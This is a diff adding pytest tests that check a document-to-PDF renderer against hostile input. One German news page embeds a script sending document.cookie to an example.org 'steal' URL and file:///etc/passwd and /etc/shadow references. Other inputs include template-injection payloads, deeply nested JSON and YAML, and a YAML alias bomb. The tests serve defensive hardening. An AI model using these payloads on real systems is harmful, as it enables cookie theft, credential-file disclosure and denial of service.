@@ -226,3 +226,68 @@ def test_hostile_input_fetcher_refuses_outside_urls() -> None:
     ):
         with pytest.raises(ValueError, match="does not fetch"):
             fetcher.fetch(url)
+
+
+HOSTILE_HTML = """<html><head><title>Streit um den Haushalt</title>
+<style>@import url(http://example.org/evil.css); body {{ background: url(file:///etc/passwd) }}</style>
+<script>fetch('http://example.org/steal?c=' + document.cookie)</script>
+<link rel="stylesheet" href="http://example.org/x.css"></head>
+<body><article><h1>Streit um den Haushalt</h1>
+<p>Der Finanzminister sagte am Montag in Berlin, dass die Lage ernst sei und die Regierung handeln werde.
+Die Koalition will den Haushalt bis Ende des Monats beschließen, erklärte ein Sprecher.</p>
+<iframe src="http://example.org/frame"></iframe><img src="http://example.org/pixel.png" alt="">
+<img src="file:///etc/passwd" alt=""><object data="file:///etc/shadow"></object>
+<p>Die Opposition kritisierte das Vorgehen scharf und forderte eine Untersuchung im Bundestag.
+{payload}</p>
+<p style="background: url(http://example.org/bg.png)">Weitere Gespräche sind für Dienstag geplant,
+teilte das Ministerium mit. Eine Einigung gilt als schwierig.</p>
+</article></body></html>
+"""
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "Ein Leser schrieb: {{ 7*7 }} und {% raw %}.",
+        "Im Text steht &lt;script&gt;alert(1)&lt;/script&gt; als Beispiel.",
+        "Die Adresse file:///etc/passwd wurde zitiert.",
+    ],
+)
+def test_hostile_input_html_page_is_text_only(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, fetched: list[str], payload: str
+) -> None:
+    source = tmp_path / "seite.html"
+    source.write_text(HOSTILE_HTML.format(payload=payload), encoding="utf-8")
+    target = tmp_path / "out.pdf"
+    got, _, err = run(capsys, "make", str(source), "-o", str(target), "--date", "2024-05-06")
+    assert got == 0, err
+    text = subprocess.run(["pdftotext", str(target), "-"], capture_output=True, text=True, check=True).stdout
+    flat = " ".join(text.split())
+    assert "Finanzminister" in flat
+    assert "fetch(" not in flat
+    assert "passwd" not in flat or "file:///etc/passwd wurde" in flat
+    if "7*7" in payload:
+        assert "{{ 7*7 }}" in flat
+        assert "49" not in flat
+    allowed = (render._folder("fonts").as_uri(), render._folder("templates").as_uri())
+    assert all(url.startswith(allowed) for url in fetched), fetched
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "command"),
+    [
+        ("deep.json", "[" * 100_000 + "]" * 100_000, "make"),
+        ("deep-text.json", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "make"),
+        ("deep-doc.json", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}", "render"),
+        ("deep-doc.yaml", "a: " + "[" * 100_000 + "]" * 100_000, "render"),
+        ("deep.md", "---\ntitle: " + "[" * 50_000 + "]" * 50_000 + "\n---\nText.\n", "make"),
+        ("bomb.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "render"),
+    ],
+)
+def test_hostile_input_deep_or_aliased_documents_fail_cleanly(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, name: str, data: str, command: str
+) -> None:
+    source = tmp_path / name
+    source.write_text(data, encoding="utf-8")
+    got, _, err = run(capsys, command, str(source), "-o", str(tmp_path / "out.pdf"))
+    assert_one_line_error(got, 4, err, tmp_path)
